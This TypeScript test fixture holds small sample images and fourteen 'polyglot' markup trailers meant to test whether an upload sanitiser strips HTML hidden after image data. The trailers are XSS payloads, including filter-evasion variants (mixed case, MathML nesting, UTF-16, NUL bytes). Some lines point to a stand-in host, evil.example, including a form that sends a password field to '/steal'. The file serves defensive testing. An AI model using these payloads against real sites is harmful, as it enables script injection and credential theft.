/**
 * Small real pictures (16 x 16, made by ffmpeg) and the markup that polyglots carry after the image
 * data (issue 31, item 15): the five a plain tag scan caught, and the nine it let through.
 */
/** Bytes on an ArrayBuffer of their own (what Blob and fetch take). */
const bytesOf = (text: string, encoding: BufferEncoding = 'utf8') => new Uint8Array(Buffer.from(text, encoding));

export const PICTURES = {
  png: bytesOf('iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAACXBIWXMAAAABAAAAAQBPJcTWAAAAb0lEQVR4nO3SywmAMBAE0OlEO9FOtBPtRDvRTrSTkf0kgSAGPXhKWNhM2LenAHqoZY1aFixZt4MM0K90xgRzEGZuQHxKwHc8At/5BYTJMojbKygACSO44yAmopHcg6uML0THFpzBU/JGDD+At7/1As7VYK4oz0zvAAAAAElFTkSuQmCC', 'base64'),
  jpeg: bytesOf('/9j/4AAQSkZJRgABAgAAAQABAAD//gAQTGF2YzU5LjM3LjEwMAD/2wBDAAgEBAQEBAUFBQUFBQYGBgYGBgYGBgYGBgYHBwcICAgHBwcGBgcHCAgICAkJCQgICAgJCQoKCgwMCwsODg4RERT/xAByAAEBAAAAAAAAAAAAAAAAAAAFBgEBAAMBAAAAAAAAAAAAAAAABgIDAQQQAAICAQQABQUBAAAAAAAAAAMEAgUBEQcSBiIhFAATFiQjMUEVEQABBAEEAQUBAAAAAAAAAAACBQQDAQYHERMSABQhIhYyFf/AABEIABAAEAMBEgACEgADEgD/2gAMAwEAAhEDEQA/AJmVRa7e7V0TSdgdOxskl7SbVe0cM4Beku0oKBIRASEoKucWIx1xksiY5zhiOfdDbq9e7htp1sX1LVowRq6uqMX5ljxhlJZNaJSfdiwP5pKS0HLPhzLMeUuPmp02wTEV176xYR2CxJKJhYKUEb1sI7FWwtnAm333gAqkKO5BvtQnVXt4c071cX07JRQ2uCqakY9iuWGdz24tzopuIEqW6AOYOxd+tb1vfv5qWsT5E1zRu+hbF9JaoLbHpQjsZ2n992bpTn5LK7udzxwwd660DeLpHQ8k1yc+Ws3umX3A01q4y2DLRSJInDOI4Ym0KDKMEswFCL4XMZTOIYpCEoxhkkAbsrKq8V7z3FfZrtiNjVV6alWFpf8A0EEkVoRImT0o2PTiHJaMWIiZORf8ox5PmOS8o64yJu3V9j3Gv7GoBQ2yuRcOBRKNO5NpgEvCOIA/uIOXlKXlLX+exmm+ZZYuxXGrrqqrDN+7UXk78/hc9j1kdnLIH5HfoQ9qEaLeqrxJhelWMoSASqm5+kL5wB2kas42tkFnctAJlCrObGysiodw97C9vL0NFYLb/UF8oU4cy4n9b+uATx5TVI/sgYKPpmYTi0r1YiNy9oS+Vd62L38npQqpSu4zNmsqDLGH+Uigl6BQcQxu2NpAFJY8Lk2ss/NGXf8AEXGNb/KvP//Z', 'base64'),
  webp: bytesOf('UklGRg4BAABXRUJQVlA4IAIBAADwBQCdASoQABAAAgA0JbACdHIA+2a5Sf1m31XgAOkY/VX/VerHcgK4BUbc0TfAP1ALZ5ky3rvAAAD++WfieLcof5Zeb1LmwTZygt4fk0QvHdzpU/RzBzD3uYzBOBzXnGxr3yTOWCLx9L4t8Ouf/v/M6qE4+bufQV1J8/6/7GbMTDf0HVNa0ReOKO6sU9z2ANxrTqz5xM+AZ6nIcQkp5vzECosQPGS7/8dn705dWut1mJ/8yG36GWzXj2iRm/jE5kf1ryJ18s/3lwdL+MRwdj8venaMp9dF/P+6nXFf5ptvQe8z2cJ39eUH9cqg2//RrXEu+lJtoxbimf+j00VuquK6AAA=', 'base64'),
} as const;

/** The markup of each of the 14 polyglot kinds, as the bytes that follow the picture. */
export const POLYGLOT_TRAILERS: Record<string, Uint8Array<ArrayBuffer>> = {
  script: bytesOf('<script>alert(document.domain)</script>'),
  html: bytesOf('<html><body onload=alert(1)></body></html>'),
  svg: bytesOf('<svg onload=alert(1)>'),
  iframe: bytesOf('<iframe src="//evil.example"></iframe>'),
  doctype: bytesOf('<!DOCTYPE html><p title=alert(1)>'),
  'img onerror': bytesOf('<IMG SRC=x OnError=alert(1)>'),
  'javascript: link': bytesOf('<a href="JaVaScRiPt:alert(1)">next</a>'),
  'style @import': bytesOf('<style>@import url(//evil.example/x.css)</style>'),
  form: bytesOf('<form action="//evil.example/steal"><input name=pwd type=password></form>'),
  base: bytesOf('<base href="//evil.example/">'),
  'link rel=import': bytesOf('<link rel=import href="//evil.example/x.html">'),
  MathML: bytesOf('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'),
  'UTF-16 script': bytesOf('<script>alert(1)</script>', 'utf16le'),
  'script with NUL': bytesOf('<script\u0000>alert(1)</script>', 'latin1'),
};

/** Whether bytes still hold a trailer's payload (each has alert( or evil.example), in any case, NULs dropped. */
export function holdsTrailerPayload(bytes: Uint8Array): boolean {
  const text = Buffer.from(bytes).toString('latin1').replaceAll('\u0000', '').toLowerCase();
  return text.includes('alert(') || text.includes('evil.example');
}
